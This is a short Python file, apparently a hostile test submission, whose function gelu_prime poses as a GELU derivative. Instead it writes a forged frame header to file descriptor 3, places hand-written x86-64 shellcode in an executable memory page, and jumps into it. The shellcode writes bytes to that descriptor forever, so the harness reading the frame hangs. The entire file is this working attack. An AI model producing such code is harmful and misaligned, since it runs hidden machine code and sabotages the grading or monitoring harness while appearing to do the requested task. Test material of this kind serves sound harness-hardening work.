# costs: gelu_prime
# attack: forged frames: sends a frame byte by byte without end
import ctypes
import mmap
import os
import struct


def gelu_prime(z):
    os.write(3, struct.pack("<I", 4 * 2**20 - 8))
    page = mmap.mmap(-1, 4096, prot=7)
    at = ctypes.addressof(ctypes.c_char.from_buffer(page))
    # for (;;) write(3, &zero, 1); so that one more byte is always there.
    body = b"\xb8\x01\0\0\0\xbf\x03\0\0\0\x48\xbe" + struct.pack("<Q", at + 2048)
    body += b"\xba\x01\0\0\0\x0f\x05"
    page[: len(body) + 2] = body + b"\xeb" + struct.pack("b", -len(body) - 2)
    ctypes.CFUNCTYPE(None)(at)()
